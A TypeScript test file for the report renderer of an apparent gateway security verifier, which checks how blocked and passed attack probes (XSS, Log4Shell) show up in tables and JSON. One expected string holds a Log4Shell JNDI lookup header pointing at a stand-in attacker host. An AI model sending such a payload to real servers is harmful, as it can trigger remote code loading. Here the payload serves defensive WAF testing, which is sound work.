import * as assert from "node:assert/strict";
import { LIMITS } from "../../verify/accountLimits";
import type { EndpointRun } from "../../verify/endpointRun";
import type { ProbeResult } from "../../verify/probe";
import { probesOf } from "../../verify/probes";
import { renderReport, reportDocument } from "../../verify/report";
import type { NotRun } from "../../verify/selection";
import { answer, atDistribution, BACKEND_CALL, evidence, GATEWAY_REFUSAL, TARGET } from "./verifyEvidence";

function resultOf(id: string, seen: ProbeResult["evidence"]): ProbeResult {
  const probe = probesOf(TARGET).find((candidate) => candidate.id === id);
  assert.ok(probe);
  return { probe, evidence: seen, problems: probe.judge(seen), milliseconds: 1250 };
}

const GOOD = resultOf("attack-xss", evidence([GATEWAY_REFUSAL]));
const BAD = resultOf("attack-log4shell", evidence([answer(200)], atDistribution(), BACKEND_CALL));

const runOf = (results: ProbeResult[], notRun: NotRun[] = []): EndpointRun[] => [
  { endpoint: TARGET.externalHost, ownerTasks: [], results, notRun },
];

/** Words of the table in reading order, borders and wrapping taken away, column by column. */
function cells(report: string, id: string): string {
  const rows = report.split("\n").map((line) => line.split("│").map((cell) => cell.trim()));
  const start = rows.findIndex((row) => row[2] === id);
  assert.notEqual(start, -1, `no row ${id}`);
  const end = rows.findIndex((row, index) => index > start && row[2] !== "");
  const own = rows.slice(start, end === -1 ? undefined : end).filter((row) => row.length > 4);
  return [1, 2, 3, 4, 5]
    .map((column) =>
      own
        .map((row) => row[column])
        .join(" ")
        .trim(),
    )
    .join(" | ");
}

describe("report", () => {
  const report = renderReport(runOf([GOOD, BAD]), { width: 160 });

  it("has a row a probe: verdict, name, place, what was expected and what was seen", () => {
    const expected = "403 by the gateway; nothing beyond it saw the request";
    assert.equal(cells(report, "attack-xss"), `ok | attack-xss | internet | ${expected} | 403 by the gateway`);
    assert.equal(
      cells(report, "attack-log4shell"),
      `FAILED | attack-log4shell | internet | ${expected} | 200; seen by edge (from 203.0.113.10), integration`,
    );
  });

  it("tells of a failure what was sent, expected and seen, and where to look", () => {
    const detail = report.slice(report.indexOf("FAILED attack-log4shell: Log4Shell in a header"));
    for (const part of [
      "sent from internet, 1 request(s):",
      "GET /items HTTP/1.1",
      "X-Api-Version: ${jndi:ldap://attacker.example/a}",
      "expected: 403 by the gateway",
      "seen: 200; distribution 200",
      "- the answer is not 403 by the gateway: 200",
      "- the backend was called 1 time(s)\n  look at the gateways' WAF engine",
    ]) {
      assert.ok(detail.includes(part), part);
    }
    assert.ok(!report.includes("FAILED attack-xss"));
  });

  it("shows no more than three requests of a failed probe", () => {
    const many = resultOf("gateway-ports-internet", evidence([]));
    assert.match(renderReport(runOf([many])), /8 request\(s\)[^]*and 5 more/);
  });

  it("ends with what only a real account can show and a line that sums up", () => {
    const lines = report.trimEnd().split("\n");
    assert.equal(lines.at(-1), "2 probes: 1 as expected, 1 failed (attack-log4shell)");
    for (const { what } of LIMITS) {
      assert.ok(lines.includes(`- ${what}`), what);
    }
    assert.match(renderReport(runOf([GOOD])), /1 probes: 1 as expected, 0 failed\n$/);
  });

  it("names what was not run with the reason, and says when verdicts rest on the answers alone", () => {
    const { probe } = resultOf("edge-peer-address", evidence([]));
    const reason = "only the twin shows it";
    const byAnswers = { ...GOOD, probe: { ...GOOD.probe, observed: false } };
    const text = renderReport(runOf([byAnswers], [{ probe, reason }]));
    assert.match(text, /verdicts rest on the answers alone/);
    assert.ok(text.includes(`Not run:\n- edge-peer-address\n  ${reason}\n`));
    assert.match(text, /1 probes: 1 as expected, 0 failed, 1 not run\n$/);
    assert.doesNotMatch(report, /answers alone|Not run/);
  });

  it("has a table for each endpoint, under its name", () => {
    const [run] = runOf([GOOD]);
    assert.ok(run);
    const text = renderReport([run, { ...run, endpoint: "b.shop.example" }]);
    assert.match(text, /^api\.shop\.example\n[^]*\nb\.shop\.example\n/);
    assert.match(text, /2 probes: 2 as expected/);
    assert.ok(!report.startsWith("api.shop.example"));
  });

  it("says what the owner of somebody else's API must do, and which probes still find it open", () => {
    const ownerTasks = ["set disableExecuteApiEndpoint of the API"];
    const owned = (results: ProbeResult[]) => runOf(results).map((run) => ({ ...run, ownerTasks }));
    const text = renderReport(owned([GOOD, BAD]));
    assert.match(
      text,
      /belongs to somebody else[^]*- set disableExecuteApiEndpoint[^]*Still open.*: attack-log4shell\./,
    );
    assert.match(renderReport(owned([GOOD])), /No probe of this run found any of it still open/);
    assert.doesNotMatch(report, /belongs to somebody else/);
    const document = JSON.parse(JSON.stringify(reportDocument(owned([GOOD, BAD])))) as object;
    assert.ok("ownerTasks" in document);
    assert.deepEqual(document.ownerTasks, [
      { endpoint: TARGET.externalHost, tasks: ownerTasks, open: ["attack-log4shell"] },
    ]);
  });

  it("is coloured only when asked", () => {
    assert.ok(!report.includes("\u001b["));
    assert.match(renderReport(runOf([GOOD, BAD]), { colour: true }), /\u001b\[31mFAILED\u001b\[0m/);
  });

  it("keeps within the width it is given", () => {
    const longest = Math.max(
      ...renderReport(runOf([GOOD, BAD]), { width: 120 })
        .split("\n")
        .filter((line) => line.includes("│"))
        .map((line) => line.length),
    );
    assert.ok(longest <= 120, String(longest));
  });

  it("gives the same facts to machines", () => {
    const document: unknown = JSON.parse(JSON.stringify(reportDocument(runOf([GOOD, BAD]))));
    assert.partialDeepStrictEqual(document, {
      passed: 1,
      failed: 1,
      results: [
        { id: "attack-xss", passed: true, problems: [] },
        { id: "attack-log4shell", passed: false, seen: { responses: [{ status: 200 }] } },
      ],
      limits: LIMITS,
    });
  });
});

describe("limits", () => {
  it("each have a name of their own, a reason and a way to see it", () => {
    assert.equal(new Set(LIMITS.map(({ id }) => id)).size, LIMITS.length);
    assert.ok(LIMITS.length > 0 && LIMITS.every(({ what, why, how }) => what !== "" && why !== "" && how !== ""));
  });
});
